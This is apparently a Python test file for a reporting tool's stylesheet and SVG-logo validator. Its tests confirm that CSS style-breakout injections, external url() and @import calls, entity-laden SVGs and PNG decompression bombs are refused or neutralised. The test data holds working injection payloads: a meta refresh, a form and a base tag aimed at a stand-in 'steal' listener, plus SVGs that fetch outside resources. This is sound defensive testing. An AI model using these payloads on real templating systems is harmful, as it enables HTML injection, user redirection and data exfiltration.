"""A template's stylesheet cannot carry markup out of its <style> element: the nesting trick
(`</</stylestyle>`) and its comment, string, selector, @media, @page and url() variants are refused
when the template is stored, and neutralised if one is in the store anyway (stored under older
rules): the real HTML export, read back with an HTML parser, has the report's elements and no others."""
import base64
import io
import json
from html.parser import HTMLParser

import pytest

from botreports import ValidationError
from botreports.plugins.templates.stylesheet import check_css, safe_stylesheet

PERIOD = {"start_date": "2025-01-20", "end_date": "2025-01-26"}
LISTENER = "http://127.0.0.1:9/steal"
META = f'<meta http-equiv="refresh" content="0;url={LISTENER}">'
FORM = f'<form action="{LISTENER}"><input name="k"></form>'
BASE = f'<base href="{LISTENER}/">'
PAYLOAD = META + FORM + BASE

ATTACKS = {
    "nesting trick": "h1 { color: red }\n</</stylestyle>" + PAYLOAD + "<style>",
    "close tag in other case and spacing": "h1 { color: red } </STYLE\n>" + PAYLOAD,
    "comment": "/* </style>" + PAYLOAD + " */ h1 { color: red }",
    "string": 'h1 { font-family: "</style>' + PAYLOAD + '" }',
    "attribute selector string": 'h1[title="</style>' + PAYLOAD + '"] { color: red }',
    "bare selector": "</style>" + PAYLOAD + " h1 { color: red }",
    "@media prelude": "@media </style>" + PAYLOAD + " { h1 { color: red } }",
    "@media body": "@media print { h1 { color: red } </style>" + PAYLOAD + " }",
    "@page margin box": '@page { @top-center { content: "</style>' + PAYLOAD + '" } }',
    "url": "h1 { background: url(</style>" + PAYLOAD + ") }",
    "svg data url": ("h1 { background: url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
                     f"<image href='{LISTENER}.png'/></svg>\") }}" + "</style>" + PAYLOAD),
}


class Elements(HTMLParser):
    """Every element of a page as (tag, attributes), and the text of its style elements."""

    def __init__(self):
        super().__init__()
        self.elements, self.styles, self._in_style = [], [], False

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, tuple(sorted(attrs))))
        self._in_style = tag == "style"

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        self._in_style = False

    def handle_data(self, data):
        if self._in_style:
            self.styles.append(data)


def elements_of(html: str) -> Elements:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser


def structure(html: str):
    """The page's elements with the attributes that differ between two runs (ids, times) blanked."""
    return [(tag, tuple((name, None if name in ("id", "href") and tag in ("section", "a") else value)
                        for name, value in attrs)) for tag, attrs in elements_of(html).elements]


def stored_with_css(reports, admin, css: str):
    """A template whose stylesheet was stored without today's checks (as one stored by older rules)."""
    template = reports.create_template(admin, {"name": "Old", "type": "custom", "format": "html",
                                               "sections": [{"type": "usage_summary"}],
                                               "css": "h1 { color: red }"})
    reports.store.db.execute("UPDATE templates SET presentation = ? WHERE id = ?",
                             [json.dumps({"css": css}), template.id])
    reports.store.db.conn.commit()
    assert reports.get_template(admin, template.id).presentation == {"css": css}
    return template


def html_export(reports, principal, template_id: str) -> str:
    report = reports.generate(principal, {"template_id": template_id, "format": "html", **PERIOD})
    assert report.state == "completed", report.error
    return reports.download(principal, report.id).path.read_text(encoding="utf-8")


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_css_attack_is_refused_when_the_template_is_stored(reports, principal_factory, name):
    with pytest.raises(ValidationError) as caught:
        reports.create_template(principal_factory("admin"), {"name": "Evil", "type": "usage",
                                                             "css": ATTACKS[name]})
    problems = [d["problem"] for d in caught.value.details if d["field"] == "css"]
    assert problems and all(p.startswith("line ") for p in problems), caught.value.details
    assert reports.store.db.execute("SELECT count(*) FROM templates").fetchone()[0] == 0


def test_every_markup_character_is_refused_with_its_line(reports, principal_factory):
    css = "h1 { color: red }\n.kpi { color: blue }\n/* a < b */"
    assert check_css(css) == ["line 3: '<' is not allowed in a stylesheet"]


def test_stored_css_attacks_are_neutralised_in_the_real_html_export(reports, principal_factory):
    admin, creator = principal_factory("admin"), principal_factory("report_creator")
    baseline = stored_with_css(reports, admin, "h1 { color: red }")
    expected = structure(html_export(reports, creator, baseline.id))
    assert ("meta", (("content", f"0;url={LISTENER}"), ("http-equiv", "refresh"))) not in expected
    for name, css in ATTACKS.items():
        html = html_export(reports, creator, stored_with_css(reports, admin, css).id)
        page = elements_of(html)
        tags = [tag for tag, _ in page.elements]
        assert "form" not in tags and "base" not in tags and "input" not in tags, name
        assert not any(tag == "meta" and ("http-equiv", "refresh") in attrs for tag, attrs in page.elements), name
        assert structure(html) == expected, name
        # what the style element holds is CSS written back from its tokens, with no "<" left to end it
        custom = page.styles[-1]
        assert "<" not in custom and custom.strip() == safe_stylesheet(css).strip(), name


def test_safe_stylesheet_keeps_strings_meaning_and_a_valid_sheet_unchanged():
    import tinycss2

    sheet = '@page :first { margin: 2cm } h1[title="a"] { font-family: "DejaVu Serif", serif; color: #0b5394 }'
    assert check_css(sheet) == []
    again = tinycss2.parse_stylesheet(safe_stylesheet(sheet), skip_whitespace=True)
    assert tinycss2.serialize(again) == tinycss2.serialize(tinycss2.parse_stylesheet(sheet, skip_whitespace=True))
    escaped = safe_stylesheet('h1 { font-family: "</style>" }')
    (rule,) = tinycss2.parse_stylesheet(escaped, skip_whitespace=True)
    (declaration,) = tinycss2.parse_blocks_contents(rule.content, skip_whitespace=True)
    assert [t.value for t in declaration.value if t.type == "string"] == ["</style>"]


@pytest.mark.parametrize("css,words", [
    ("@media print { @import url(x.css); h1 { color: red } }", "@import is not allowed"),
    ("@media print { h1 { position: fixed } }", "'position' is not allowed"),
    ("@page { @top-center { color: red; position: fixed } }", "'position' is not allowed"),
    ("@page { @font-face { src: url(x) } }", "not allowed inside @page"),
    ("@page { h1 { color: red } }", "nested"),
    ("h1 { color: var(--x) }", "var() is not allowed"),
    ("h1 { background: image-set('x.png' 1x) }", "image-set() is not allowed"),
    ("h1 { background: url(https://example.com/x.png) }", "data:image URL"),
    ("h1 { background: url(x.png) }", "data:image URL"),
    ("h1 { background: url('data:image/svg+xml;base64,PHN2Zy8+') }", "PNG, JPEG, GIF or WebP"),
    ("h1 { background: url(data:image/png;base64,R0lGODlhAQABAAAAACw=) }", "not a PNG picture"),
])
def test_weak_points_of_the_old_check_are_refused(css, words):
    problems = check_css(css)
    assert any(words in p for p in problems), problems


def _png(width: int, height: int) -> str:
    from PIL import Image

    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, "PNG", optimize=True)
    return base64.b64encode(out.getvalue()).decode()


def test_small_raster_data_images_pass_and_picture_bombs_do_not():
    assert check_css(f"h1 {{ background: url(data:image/png;base64,{_png(8, 8)}) }}") == []
    bomb = _png(8_000, 8_000)  # a few KB that decode to 64 million pixels
    assert len(bomb) < 20_000
    (problem,) = check_css(f"h1 {{ background: url(data:image/png;base64,{bomb}) }}")
    assert "8,000x8,000 picture" in problem


@pytest.mark.parametrize("svg,words", [
    ("<svg xmlns='http://www.w3.org/2000/svg'><rect fill='url(http://127.0.0.1:9/x#p)'/></svg>", "'fill'"),
    ("<svg xmlns='http://www.w3.org/2000/svg'><style>rect { fill: url(http://127.0.0.1:9/x) }</style></svg>",
     "<style>"),
    ("<svg xmlns='http://www.w3.org/2000/svg'><style>@import 'http://127.0.0.1:9/x.css';</style></svg>", "<style>"),
    ("<?xml-stylesheet href='http://127.0.0.1:9/x.css'?><svg xmlns='http://www.w3.org/2000/svg'/>",
     "processing instructions"),
    ("<!DOCTYPE svg [<!ENTITY a 'aaaa'>]><svg xmlns='http://www.w3.org/2000/svg'>&a;</svg>", "DOCTYPE"),
    ("<svg xmlns='http://www.w3.org/2000/svg'><feImage href='http://127.0.0.1:9/x'/></svg>", "feimage"),
    ("<svg xmlns='http://www.w3.org/2000/svg'><a><animate attributeName='href' to='http://x'/></a></svg>",
     "animate"),
])
def test_svg_logos_may_not_reach_outside(reports, principal_factory, svg, words):
    with pytest.raises(ValidationError) as caught:
        reports.create_template(principal_factory("admin"), {"name": "Evil", "type": "usage",
                                                             "logo": "data:image/svg+xml," + svg})
    assert words in {d["field"]: d["problem"] for d in caught.value.details}["logo"]


def test_an_svg_logo_with_internal_references_is_accepted(reports, principal_factory):
    svg = ("<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'><defs><linearGradient id='g'/>"
           "</defs><style>rect { stroke: #000 }</style><rect width='10' height='10' fill='url(#g)'/></svg>")
    made = reports.create_template(principal_factory("admin"), {"name": "Logo", "type": "usage",
                                                                "logo": "data:image/svg+xml," + svg})
    assert made.presentation["logo"].endswith("</svg>")
